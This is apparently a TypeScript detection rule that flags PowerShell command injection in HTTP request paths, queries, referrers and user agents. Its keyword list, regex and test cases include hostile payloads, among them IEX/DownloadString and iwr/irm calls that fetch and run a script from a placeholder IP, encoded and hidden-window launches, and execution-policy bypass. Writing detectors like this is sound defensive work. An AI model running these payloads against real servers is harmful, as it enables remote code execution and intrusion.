import { each } from '../example.ts'
import { defineRule } from '../rule.ts'

export default defineRule({
  id: 'cmdi/powershell',
  title: 'PowerShell launched from a request',
  why: 'Starts PowerShell with hidden, encoded or downloaded code: the usual second step on Windows servers.',
  ja: {
    title: 'リクエストからの PowerShell 起動',
    why: '隠しウィンドウ・エンコード・ダウンロードしたコードで PowerShell を起動しようとしています。Windows サーバーへの侵入でよく使われる次の一手です。',
  },
  severity: 'critical',
  stage: 'execute',
  attack: ['T1059.001'],
  cwe: [78],
  refs: [
    'https://attack.mitre.org/techniques/T1059/001/',
    'https://learn.microsoft.com/powershell/module/microsoft.powershell.core/about/about_powershell_exe',
  ],

  where: ['path', 'query', 'referrer', 'agent', 'user'],
  needs: [
    [
      'powershell',
      'pwsh',
      'downloadstring',
      'downloadfile',
      'frombase64string',
      'new-object net.webclient',
      'start-process',
      'iwr ',
      'iwmi ',
      'iex ',
      'iex(',
      'irm ',
      'invoke-',
      'get-content',
      'get-childitem',
      'get-process',
      'get-wmiobject',
      'get-credential',
      'set-executionpolicy',
    ],
  ],
  match:
    /(?:powershell|pwsh)(?:\.exe)?["']?[\s+]{1,4}(?:-|\/)?(?:e(?:nc|ncodedcommand|c)?|nop|noprofile|[wc("]|windowstyle|command|ep|exec|executionpolicy|noni|sta|iex|invoke|wget|curl|ls|dir|start)[\s+"'(]|\b(?:invoke-(?:expression|webrequest)|start-process)\s[$"'(h-]|\.download(?:string|file)\s?\(|frombase64string\s?\(|new-object\s+(?:system\.)?net\.webclient|(?:^|[\s&;=|])(?:iwr\s+(?:-\w+\s+)?https?:|iwmi\s+-|iex\s?[("'$]|irm\s+https?:|(?:powershell|pwsh)(?:\.exe)?\s[a-z]:\\|invoke-(?:wmimethod|cimmethod|command|restmethod|item)\s+-?\w|get-(?:content|childitem|process|wmiobject|credential)\s+[-$\w]|set-executionpolicy\s)/i,

  hits: [
    'GET /a?x=;powershell%20-enc%20SQBFAFgA HTTP/1.1',
    "GET /a?x=IEX(New-Object%20Net.WebClient).DownloadString('http://203.0.113.9/a.ps1') HTTP/1.1",
    'GET /a?cmd=powershell.exe+-nop+-w+hidden+-c+calc HTTP/1.1',
    'GET /a?x=;pwsh%20-enc%20SQBFAFgA HTTP/1.1',
    'GET /a?x=;powershell%20/enc%20SQBFAFgA HTTP/1.1',
    ...each(
      'GET /a?x=;powershell%20-{}%20SQBFAFgA HTTP/1.1',
      'noprofile " windowstyle command ep exec executionpolicy noni sta iex invoke wget curl ls dir start',
    ),
    'GET /a?x=;powershell%20-encodedcommand%20SQBFAFgA HTTP/1.1',
    'GET /a?x=;powershell%20-ec%20SQBFAFgA HTTP/1.1',
    'GET /;powershell%20-enc%20SQBFAFgA HTTP/1.1',
    {
      request: 'GET / HTTP/1.1',
      referrer: 'https://www.example.com/a?x=;powershell%20-enc%20SQBFAFgA',
    },
    { request: 'GET / HTTP/1.1', agent: ';powershell -enc SQBFAFgA' },
    { request: 'GET / HTTP/1.1', user: ';powershell -enc SQBFAFgA' },
    ...each(
      'GET /a?x={} HTTP/1.1',
      `invoke-expression+$x start-process+'calc' invoke-webrequest+http://203.0.113.9/a
    new-object+net.webclient [convert]::frombase64string('aWQ=') $w.downloadstring('a')
    $w.downloadfile('a','b')`,
    ),
    ...each(
      'GET /a?x=;{} HTTP/1.1',
      `iwr+http://203.0.113.9/a iwmi+-class+x iex($x) irm+https://203.0.113.9/a invoke-command+-a
    get-content+c:/a set-executionpolicy+bypass`,
    ),
    'GET /a?x=iwr+http://203.0.113.9/a HTTP/1.1',
    ...each('GET /a?x=;invoke-{}+-a HTTP/1.1', 'wmimethod cimmethod restmethod item'),
    ...each('GET /a?x=;get-{}+c:/a HTTP/1.1', 'childitem process wmiobject credential'),
    'GET /a?x=;iex+$x) HTTP/1.1',
    ...each('GET /a?x={}+c:%5C*%5Cn??e*.exe HTTP/1.1', 'powershell pwsh powershell.exe'),
  ],
  misses: [
    {
      request: 'GET / HTTP/1.1',
      agent: 'Mozilla/5.0 (Windows NT; en-US) WindowsPowerShell/5.1.19041',
    },
    'GET /course/powershell-basics?level=1 HTTP/1.1',
    'GET /q?text=powershell+tutorial HTTP/1.1',
    { message: 'upstream timed out, request: "GET /a?x=;powershell%20-enc%20SQBFAFgA HTTP/1.1"' },
    'GET /a?x=myinvoke-expression+$x HTTP/1.1',
  ],
})
